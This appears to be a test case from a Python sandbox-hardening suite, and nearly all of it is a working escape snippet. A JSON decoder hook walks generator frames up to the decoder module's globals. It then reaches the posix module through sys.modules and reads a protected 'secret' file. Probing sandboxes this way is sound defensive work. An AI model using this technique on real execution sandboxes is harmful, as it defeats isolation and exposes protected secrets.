# class: exceptions and frames
# technique: the frames below a hook that the JSON decoder calls
# layers: analyzer, interpreter, landlock, seccomp, identity
# code: user
# allow: collections, contextlib, copy, dataclasses, datetime, decimal, enum, functools, json, logging, math, operator, random, re, statistics, string, typing, unicodedata
# witness: secret
host = _items[0]["json"]
import json
box = []
def hook(pairs):
    def frames():
        yield running.gi_frame.f_back.f_back
    running = frames()
    frame = next(running)
    box.append(frame.f_globals)
    return {}
json.loads('{"a": 1}', object_pairs_hook=hook)
reached = box[0]["NaN"] and box[0]["scanner"].re.enum.sys.modules["posix"]
return [{"json": {"reached": reached.read(reached.open(host["secret"], 0), 4096).decode()}}]
